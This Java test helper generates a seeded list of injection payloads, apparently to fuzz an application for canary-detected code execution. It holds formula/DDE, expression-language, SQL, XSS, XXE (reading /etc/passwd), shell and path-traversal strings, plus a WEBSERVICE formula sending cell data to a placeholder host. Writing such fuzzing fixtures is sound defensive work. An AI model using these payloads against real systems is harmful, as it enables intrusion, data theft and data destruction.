package health.fascia.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/** Text that wants to be more than text, from the families by which programs were tricked before; always the same list. */
public final class Payloads {

    /** The seed of all payloads. */
    public static final long SEED = 20_261_126L;

    /** {@code §} is a random word, {@code CANARY} a file that must never exist. */
    private static final List<String> FAMILIES = List.of(
            "=cmd|'/c touch CANARY'!A§",
            "=HYPERLINK(\"http://§.invalid\",\"§\")",
            "+cmd|'/c calc'!§",
            "-2+3+cmd|' /C §'!A0",
            "@SUM(1+1)*cmd|'/c touch CANARY §'!A0",
            "=DDE(\"cmd\";\"/c touch CANARY\";\"§\")",
            "=WEBSERVICE(\"http://§.invalid/\"&A1)",
            "=IMPORTXML(\"http://§.invalid\",\"//a\")",
            "=EXEC(\"touch CANARY\")+§",
            "\t=1+§",
            "_x003D_1+§",
            "new java.io.File(\"CANARY\").createNewFile() // §",
            "System.setProperty(\"fascia.canary\", \"§\")",
            "Runtime.getRuntime().exec(\"touch CANARY §\")",
            "\"); new java.io.File(\"CANARY\").createNewFile(); //§",
            "${§.class.forName('java.lang.Runtime')}",
            "${T(java.lang.Runtime).getRuntime().exec('touch CANARY §')}",
            "#{T(java.lang.System).setProperty('fascia.canary','§')}",
            "%{#context['§']}",
            "{{constructor.constructor('return §')()}}",
            "@{new java.io.File('CANARY').createNewFile()} §",
            "import java.io.*; new File(\"CANARY\").createNewFile(); §",
            "with (System) { setProperty('fascia.canary', '§') }",
            "rule \"§\" when then System.exit(1); end",
            "then findings.meets(\"A-TRIAL\"); end // §",
            "eval(new java.io.File(\"CANARY\").createNewFile()) §",
            "' OR '1'='1' -- §",
            "'; DROP TABLE determination; -- §",
            "\" UNION SELECT * FROM audit_entry -- §",
            "CALL CSVWRITE('CANARY', 'select §')",
            "<script>alert('§')</script>",
            "<img src=x onerror=alert('§')>",
            "\"><svg onload=alert(§)>",
            "<a href=\"javascript:alert('§')\">§</a>",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;§</a>",
            "§\u202Egpj.exe",
            "§\u2066hidden\u2069",
            "pay\u200B§",
            "\uFEFF§",
            "§\u2028next",
            "§\u0007bell",
            "§\u001B[31mred",
            "{rule} {inputs} {§}",
            "%s%n%x§",
            "../../../../§",
            "$(touch CANARY §)",
            "`touch CANARY §`",
            "| touch CANARY §",
            "\\u0022); § //",
            "LONG§");

    private Payloads() {}

    /** Gives so many different payloads. */
    public static List<String> list(int count, String canary) {
        Random random = new Random(SEED);
        Set<String> all = new LinkedHashSet<>();
        for (int i = 0; all.size() < count; i++) {
            String family = FAMILIES.get(i % FAMILIES.size());
            String word = Integer.toString(random.nextInt(Integer.MAX_VALUE), 36);
            String text = family.replace("§", word).replace("CANARY", canary);
            all.add(family.startsWith("LONG") ? text + "x".repeat(3_000 + random.nextInt(25_000)) : text);
        }
        return new ArrayList<>(all);
    }
}
